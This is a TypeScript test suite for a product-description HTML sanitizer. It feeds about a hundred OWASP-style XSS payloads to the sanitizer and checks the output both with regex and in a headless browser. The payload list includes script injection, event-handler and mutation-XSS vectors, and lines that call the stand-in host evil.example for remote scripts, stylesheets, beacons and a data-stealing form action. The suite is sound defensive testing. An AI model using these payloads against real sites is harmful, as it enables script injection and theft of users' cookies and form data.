import fc from 'fast-check';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_DESCRIPTION_BYTES, sanitizeDescription } from './description-sanitizer.ts';

/** Vectors in the style of the OWASP XSS filter evasion cheat sheet, plus mutation-XSS classics. */
const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=https://evil.example/xss.js?< B >',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="window.__xss=1">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img src="/assets/ok.png" onerror="window.__xss=1" onload="window.__xss=1">',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<IMG SRC="javascript:alert('XSS')"`,
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<BODY ONLOAD=alert('XSS')>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  '<p>a\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x o\u0000nerror=alert(1)></p>',
  '<a href="java\u0000script:alert(1)">nul</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<A HREF="JAVASCRIPT:alert(1)">x</A>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="jAvAsCrIpT&#58;alert(1)">x</a>',
  '<a href="javas&#99;ript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/phish">x</a>',
  '<a href="https://evil.example/">x</a>',
  '<a href="http:evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="/&#x09;/evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/ok" onclick="window.__xss=1" onmouseover="alert(1)">x</a>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<svg onload=alert(1)>',
  `<svg/onload=alert('XSS')>`,
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)" /></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="onload" to="alert(1)" /></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">m</maction></math>',
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<STYLE>@import'https://evil.example/xss.css';</STYLE>`,
  '<style>@import url(https://evil.example/x.css);</style><p>x</p>',
  '<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<div style="width: expression(alert('XSS'));">`,
  '<p style="background-image:url(https://evil.example/beacon?d=1)">beacon</p>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">',
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  `<BASE HREF="javascript:alert('XSS');//">`,
  '<base href="https://evil.example/">',
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  '<table><tr><td onclick="alert(1)" style="color:red" colspan="2x">c</td></tr></table>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
  '<form action="https://evil.example/steal"><input name=card><button formaction="javascript:alert(1)">x</button></form>',
  '<form><input type=submit formaction="javascript:alert(1)" value=go></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><template shadowrootmode=open><img src=x onerror=alert(1)></template></select>',
  '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><img src=x onerror=alert(1)></noframes>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!--[if gte IE 4]><SCRIPT>alert(\'XSS\');</SCRIPT><![endif]-->',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>m</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<div tabindex=1 contenteditable autofocus onfocus=alert(1) id=x class=y data-x=1>d</div>',
  '<x onclick=alert(1)>click</x>',
  '<p onmouseover =alert(1)>spaced handler</p>',
  '<img src="/assets/a.png" srcset="https://evil.example/x.png 2x">',
  '<img src="https://evil.example/beacon.gif?d=1">',
  '<img src="//evil.example/beacon.gif">',
  '<img src="/media/../admin/secret.png">',
  '<img src="/assets/%2e%2e/admin.png">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="/assets/a.png" width="100%" height="1e9">',
  '<img src="/assets/x.png" alt="&quot; onerror=&quot;alert(1)">',
  '<a href="/ok" target="_blank" rel="opener">opener</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>' + '<b>'.repeat(200) + 'deep' + '</b>'.repeat(200) + '</p>',
];

/** Replaces quoted attribute values so checks below look only at markup, not at escaped text. */
function markupOnly(html: string): string {
  return html.replace(/"[^"]*"/g, '""');
}

function attributeValues(html: string, attribute: string): string[] {
  const pattern = new RegExp(`\\s${attribute}="([^"]*)"`, 'g');
  return [...html.matchAll(pattern)].map((m) => m[1]!.replaceAll('&amp;', '&'));
}

function sanitizeOk(html: string): { html: string; removed: string[] } {
  const result = sanitizeDescription(html);
  if (!result.ok) throw new Error(`unexpected rejection: ${result.message}`);
  return result;
}

function expectInert(output: string): void {
  expect(output).not.toMatch(/<script/i);
  expect(output).not.toMatch(/javascript:/i);
  expect(output).not.toMatch(/<style/i);
  expect(output).not.toMatch(/evil\.example/i);
  const markup = markupOnly(output);
  expect(markup).not.toMatch(/<[^>]*\son\w+\s*=/i);
  expect(markup).not.toMatch(/<[^>]*\s(style|srcset|srcdoc|action|formaction|xlink:href|background)\s*=/i);
  expect(markup).not.toMatch(/<\/?(svg|math|iframe|object|embed|form|input|meta|link|base|template|noscript)\b/i);
  for (const href of attributeValues(output, 'href')) {
    expect(href).toMatch(/^\/(?![/\\])/);
  }
  for (const src of attributeValues(output, 'src')) {
    expect(src).toMatch(/^\/(assets|media)\//);
  }
}

describe('sanitizeDescription: XSS payloads', () => {
  it.each(XSS_PAYLOADS.map((p, i) => [i, p]))('payload %i is neutralised and idempotent', (_i, payload) => {
    const first = sanitizeOk(payload);
    expectInert(first.html);
    const second = sanitizeOk(first.html);
    expect(second.html).toBe(first.html);
    expect(second.removed).toEqual([]);
  });

  it('reports what it stripped so the editor can be warned', () => {
    const result = sanitizeOk(
      '<p style="color:red" onclick="x()">説明</p><script>alert(1)</script><img src=x onerror=alert(1)><a href="//evil.example" target=_blank>x</a>',
    );
    expect(result.removed).toEqual(
      expect.arrayContaining(['p[style]', 'p[onclick]', 'script', 'img[src]', 'img[onerror]', 'a[href]', 'a[target]']),
    );
    expect(new Set(result.removed).size).toBe(result.removed.length);
  });

  it('survives random mixes of dangerous fragments', () => {
    const fragments = fc.constantFrom(
      '<svg onload=alert(1)>',
      '</svg>',
      '<noscript>',
      '</noscript>',
      '<p title="',
      '">',
      '<img src=x onerror=alert(1)>',
      '<a href="javascript:alert(1)">',
      '</a>',
      '<style>',
      '</style>',
      '<math><mtext>',
      '<table><td>',
      '<!--',
      '-->',
      '<template>',
      '<b>',
      '"',
      "'",
      '<',
      '>',
      '&lt;script&gt;',
      'テキスト',
      '<a href="/ok">',
      '<img src="/assets/ok.png" alt="">',
    );
    fc.assert(
      fc.property(fc.array(fragments, { maxLength: 30 }), (parts) => {
        const first = sanitizeOk(parts.join(''));
        const markup = markupOnly(first.html);
        expect(first.html).not.toMatch(/<script|javascript:|<style/i);
        expect(markup).not.toMatch(/<[^>]*\son\w+\s*=/i);
        expect(sanitizeOk(first.html).html).toBe(first.html);
      }),
      { numRuns: 400 },
    );
  });
});

describe('sanitizeDescription: what editors may use', () => {
  it('keeps the allowed formatting subset and Japanese text', () => {
    const input =
      '<h3>特長</h3><p><strong>サロン専売</strong>の<em>カラー剤</em>です。<br><b>太字</b><i>斜体</i><u>下線</u></p>' +
      '<ul><li>一</li></ul><ol><li>二</li></ol><h4>注意</h4><blockquote>引用</blockquote>' +
      '<table><thead><tr><th colspan="2">容量</th></tr></thead><tbody><tr><td rowspan="1">80g</td><td>1,200円</td></tr></tbody></table>';
    const result = sanitizeOk(input);
    expect(result.removed).toEqual([]);
    expect(result.html).toBe(input.replace('<br>', '<br />'));
  });

  it('keeps same-origin links and forces rel="noopener"', () => {
    const result = sanitizeOk('<a href="/products/123?color=7N#spec" rel="noreferrer">詳細</a>');
    expect(result.html).toBe('<a href="/products/123?color=7N#spec" rel="noopener">詳細</a>');
    expect(result.removed).toEqual(['a[rel]']);
  });

  it('drops relative-but-not-rooted links, keeping the text', () => {
    expect(sanitizeOk('<a href="products/1">商品</a>').html).toBe('<a rel="noopener">商品</a>');
  });

  it('keeps own images with alt and numeric size, drops non-numeric sizes', () => {
    expect(sanitizeOk('<img src="/media/p/1.webp" alt="ボトル" width="320" height="auto">')).toEqual({
      html: '<img src="/media/p/1.webp" alt="ボトル" width="320" />',
      removed: ['img[height]'],
      ok: true,
    });
    expect(sanitizeOk('<img src="/assets/logo.png" alt="">').html).toBe('<img src="/assets/logo.png" alt="" />');
  });

  it('removes images whose source is not one of our own paths', () => {
    expect(sanitizeOk('<p>a<img src="/uploads/x.png">b</p>').html).toBe('<p>ab</p>');
  });

  it('drops unknown tags but keeps their text', () => {
    expect(sanitizeOk('<div><span>本文</span></div>')).toEqual({ ok: true, html: '本文', removed: ['div', 'span'] });
  });
});

describe('sanitizeDescription: size limit', () => {
  it('rejects input over the limit instead of truncating it', () => {
    const result = sanitizeDescription(`<p>${'あ'.repeat(MAX_DESCRIPTION_BYTES / 3 + 10)}</p>`);
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.code).toBe('description_too_large');
      expect(result.message).toContain('KB');
    }
  });

  it('accepts input exactly at the limit', () => {
    const body = 'a'.repeat(MAX_DESCRIPTION_BYTES - '<p></p>'.length);
    const result = sanitizeDescription(`<p>${body}</p>`);
    expect(result.ok).toBe(true);
  });
});

describe('sanitizeDescription: outputs parsed and run by a real browser', () => {
  const SHOP_ORIGIN = 'https://shop.oroshi.test';
  let browser: Browser;

  beforeAll(async () => {
    browser = await chromium.launch({
      executablePath: '/usr/bin/chromium',
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
      ],
    });
  });

  afterAll(async () => {
    await browser?.close();
  });

  it('executes nothing, loads nothing foreign, and keeps only the allowed DOM', async () => {
    const sections = XSS_PAYLOADS.map(
      (payload, i) => `<section data-case="${i}">${sanitizeOk(payload).html}</section>`,
    ).join('\n');
    const page = `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>t</title></head><body>${sections}</body></html>`;

    const context = await browser.newContext();
    const tab = await context.newPage();
    const dialogs: string[] = [];
    const foreignRequests: string[] = [];
    tab.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await context.route('**/*', async (route) => {
      const url = new URL(route.request().url());
      if (url.origin !== SHOP_ORIGIN) {
        foreignRequests.push(url.href);
        await route.abort();
      } else if (url.pathname === '/') {
        await route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: page });
      } else {
        await route.fulfill({ status: 404, body: '' });
      }
    });

    await tab.goto(`${SHOP_ORIGIN}/`, { waitUntil: 'load' });
    // Give SVG animations, marquee and image errors time to fire, and poke every element with the
    // events the payloads hang their handlers on.
    await tab.evaluate(() => {
      for (const el of document.querySelectorAll('section *')) {
        for (const type of ['mouseover', 'focus', 'error', 'load', 'toggle', 'begin', 'start']) {
          el.dispatchEvent(new Event(type));
        }
      }
    });
    await tab.waitForTimeout(600);

    const probe = await tab.evaluate(() => (window as unknown as { __xss?: unknown }).__xss);
    expect(dialogs).toEqual([]);
    expect(probe).toBeUndefined();
    expect(foreignRequests).toEqual([]);

    const dom = await tab.evaluate(() =>
      [...document.querySelectorAll('section *')].map((el) => ({
        tag: el.localName,
        ns: el.namespaceURI,
        attrs: [...el.attributes].map((a) => a.name),
        href: el.getAttribute('href') === null ? null : (el as HTMLAnchorElement).href,
        src: el.getAttribute('src') === null ? null : (el as HTMLImageElement).src,
      })),
    );
    const allowedTags = new Set(Object.keys(ALLOWED_ATTRIBUTES_FOR_BROWSER_CHECK));
    for (const node of dom) {
      expect(node.ns).toBe('http://www.w3.org/1999/xhtml');
      expect(allowedTags).toContain(node.tag);
      for (const attr of node.attrs) expect(ALLOWED_ATTRIBUTES_FOR_BROWSER_CHECK[node.tag]).toContain(attr);
      if (node.href !== null) expect(new URL(node.href).origin).toBe(SHOP_ORIGIN);
      if (node.src !== null) expect(new URL(node.src).pathname).toMatch(/^\/(assets|media)\//);
    }
    // The check above is only meaningful if the page really contained sanitised markup.
    expect(dom.some((n) => n.tag === 'a' && n.href !== null)).toBe(true);
    expect(dom.some((n) => n.tag === 'img')).toBe(true);
    await context.close();
  });
});

/** What the browser may show after parsing, written out independently of the implementation. */
const ALLOWED_ATTRIBUTES_FOR_BROWSER_CHECK: Record<string, string[]> = {
  ...Object.fromEntries(
    ['p', 'br', 'strong', 'em', 'b', 'i', 'u', 'ul', 'ol', 'li', 'h3', 'h4', 'blockquote']
      .concat(['table', 'thead', 'tbody', 'tr'])
      .map((tag) => [tag, []]),
  ),
  th: ['colspan', 'rowspan'],
  td: ['colspan', 'rowspan'],
  a: ['href', 'rel'],
  img: ['src', 'alt', 'width', 'height'],
};
